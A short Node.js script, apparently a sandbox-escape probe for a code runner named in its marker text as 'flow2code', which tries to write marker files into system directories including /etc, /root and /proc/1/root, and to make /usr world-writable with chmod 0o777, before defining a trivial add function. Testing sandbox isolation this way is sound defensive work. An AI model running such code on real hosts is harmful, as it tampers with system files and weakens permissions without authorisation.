const fs = require("fs");

for (const folder of ["/", "/etc", "/usr", "/usr/bin", "/var/tmp", "/root", "/home", "/box", "/tmp/../..",
  "/tmp", "/dev/shm", "/proc/1/root/var/tmp", "/sys", "/dev"]) {
  try {
    fs.writeFileSync(`${folder}/flow2code-was-here`, "I was here");
  } catch {
    continue;
  }
}
try {
  fs.chmodSync("/usr", 0o777);
} catch (error) {
  console.log(error.message);
}

function add(a, b) {
  return a + b;
}
